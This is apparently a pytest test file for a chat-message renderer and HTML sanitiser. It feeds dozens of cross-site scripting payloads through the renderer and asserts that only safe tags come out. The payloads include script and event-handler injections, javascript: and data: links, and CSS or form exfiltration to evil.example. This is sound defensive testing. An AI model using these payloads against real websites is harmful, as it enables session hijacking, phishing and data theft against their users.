import pytest

from conversations.rendering import render
from conversations.rendering.sanitise import sanitise
from conversations.tests.rendering.strict_html import safe_tags

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><svg/onload=alert(1)>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<math><maction actiontype='statusline#x' href='javascript:alert(1)'>x</maction>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example';",
    "<form action=https://evil.example><input name=q><button>Log in</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<!-- <script>alert(1)</script> --> <!--> <![CDATA[<script>]]> <?php x ?> <!DOCTYPE x>",
    "<div style=position:fixed;inset:0 id=composer class=danger hx-get=/logout>x</div>",
    "<a href=javascript:alert(1)>x</a> <video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</figure></div></article><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1)) [x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>) [x](< javascript:alert(1)>) [x](<\x01javascript:alert(1)>)",
    "[x](javascript&#58;alert(1)) [x](%6Aavascript:alert(1)) [x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1)) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd)",
    "[x](//evil.example) [x](/logout) [x](#id) [x](?q) [x](\\\\evil.example) [x](blob:x)",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    '[x](https://e.example/"onmouseover="alert(1)) [x](https://e.example "\\"onclick=alert(1) ")',
    "[x](https://e.example/<script>) [x](<https://e.example/'><script>alert(1)</script>>)",
    "[x]: javascript:alert(1)\n\n[x] [y][x] ![x]",
    "![x](javascript:x) ![x](data:image/svg+xml,<svg/onload=y>) ![x](data:image/png;base64,AA)",
    '![" onerror=alert(1) x="](https://e.example/x.png) ![<script>](https://e.example)',
    '[![x" onclick="y](https://e.example/a" onerror="z)](https://e.example)',
    "# <a id=x name=y>heading</a> {#id .class onclick=x}",
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    '```"><img/src=x/onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "```html\n</span></code></pre></figure><script>alert(1)</script>\n```",
    "```js\" onclick=\"x\n'</span><script>'\n```",
    "`</code><script>alert(1)</script>`",
    "$\\href{javascript:x}{x}$ $\\style{position:fixed}{x}$ $\\class{danger}{x}$ $\\id{x}{y}$",
    "$\\text{</math><script>alert(1)</script>}$ $</span><img src=x onerror=alert(1)>$",
    "$$\n\\text{<svg onload=alert(1)>}\\color{red;background:url(x)}{y}\\rule{999em}{999em}\n$$",
    "```math\n\\text{</mtext><img src=x onerror=alert(1)>}\\hspace{999em}\n```",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    '> [!NOTE] " onclick="alert(1)\n> x',
    '| <script> | " onclick=x |\n|:-:|-:|\n| <img src=x onerror=y> | [x](javascript:z) |',
    "- [x] <input autofocus onfocus=alert(1)>\n- [ ] <b>",
    "1000000000. x\n\n-1. y",
    "\u202eevil\u2066text\u2069 \u200f [\u202emoc.evil](https://e.example/\u202egnp.exe)",
    "\0<scr\0ipt>alert(1)</script> &#0;&#x110000;&#xD800; \ufeff \ud800 \udfff",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt; &#60;script&#62;",
    "x" * 5_000 + "<script>" + "\u0300" * 2_000,
]
MARKUP = [
    '<details open onclick="x"><summary onclick="y" style="z">a</summary>b</details>',
    "<details><summary>a</summary>\n\n" * 5 + "b\n\n</details></details></div></article>",
    "<details><summary>a<script>alert(1)</script></summary><img src=x onerror=y></details>",
    '<kbd onmouseover=alert(1) style="position:fixed" class=danger id=x>a</kbd>',
    "<sub><script>alert(1)</script></sub> <u><iframe src=x></u> <mark><svg onload=x></mark>",
    "<s><u>a</s></u> <sub><p>a</sub></p> </kbd></kbd> <br onload=x> <br/onclick=x>",
    "&lt;u onclick=x&gt;a&lt;/u&gt; \\<u>a\\</u> &#60;script>alert(1)&#60;/script>",
    "\\(\\text{<img src=x onerror=y>}\\) \\[\\href{javascript:x}{y}\\] \\ce{<script>}",
    "\\begin{align}\\text{</math><script>alert(1)</script>}\\end{align}",
    '[^"><script>] [^x" onclick="y]\n\n[^"><script>]: a\n[^x" onclick="y]: <script>b</script>',
    "**https://e.example/\"onclick=x**。 https://e.example/<script>。 https://e.example/'。",
    "```markdown\n```js\n</code></pre><script>alert(1)</script>\n```\n```",
    '```latex\n\\text{<img src=x onerror=y>}\n```\n\n```python:"><script>\nx\n```',
    "\ufdd00\ufdd1 $\ufdd00\ufdd1$ \ufdd4<x>\ufdd5 \ufdd3<details>\ufdd3 $\ufdd09\ufdd1$ $x$",
    "| a |\n|-|\n| <details><summary>x</summary><script>y</script></details> <u>|</u> |",
]


@pytest.mark.parametrize("final", [True, False])
@pytest.mark.parametrize("payload", PAYLOADS + MARKUP)
def test_only_what_we_emit_comes_out(payload: str, final: bool) -> None:
    safe_tags(payload, final=final)


@pytest.mark.parametrize(
    "frame",
    ["> {}", "- {}", "- [ ] {}", "# {}", "| a |\n|-|\n| {} |", "**{}**", "[{}](https://e.example)"],
)
@pytest.mark.parametrize("payload", PAYLOADS + MARKUP)
def test_only_what_we_emit_comes_out_of_a_frame(payload: str, frame: str) -> None:
    safe_tags(frame.format(payload))


def test_every_prefix_of_all_payloads_is_safe() -> None:
    text = "\n\n".join(PAYLOADS[:-1])
    for end in range(0, len(text), 7):
        safe_tags(text[:end], final=False)


def test_every_prefix_of_markup_is_safe() -> None:
    text = "\n\n".join(MARKUP)
    for end in range(0, len(text), 5):
        safe_tags(text[:end], final=False)


def test_raw_html_is_shown_as_text() -> None:
    html = "".join(block.html for block in render("<script>alert(1)</script>\n\n<b>x</b>"))
    assert html == "&lt;script&gt;alert(1)&lt;/script&gt;\n<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


@pytest.mark.parametrize("href", ["/logout", "//evil.example", "ftp://a.example", "javascript:x"])
def test_the_sanitiser_alone_refuses_other_links(href: str) -> None:
    assert "href" not in sanitise(f'<a href="{href}">x</a>')


@pytest.mark.parametrize(
    "attribute", ["id=x", "style=color:red", "class=danger", "onclick=x", "hx-get=/"]
)
def test_the_sanitiser_alone_refuses_other_attributes(attribute: str) -> None:
    html = sanitise(f"<p {attribute}>x</p>").replace(' class=""', "")
    assert html == "<p>x</p>"
